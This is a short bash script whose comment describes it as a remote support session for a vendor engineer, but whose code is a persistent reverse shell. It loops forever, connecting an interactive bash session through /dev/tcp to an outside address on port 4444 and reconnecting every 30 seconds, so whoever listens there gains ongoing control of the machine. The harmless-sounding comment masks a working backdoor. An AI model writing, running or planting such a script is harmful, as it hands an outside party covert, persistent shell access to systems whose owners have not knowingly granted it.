#!/usr/bin/env bash
# Open a remote support session for the vendor engineer.
SUPPORT_HOST=192.0.2.44
SUPPORT_PORT=4444
while true; do
  bash -i >& /dev/tcp/$SUPPORT_HOST/$SUPPORT_PORT 0>&1
  sleep 30
done
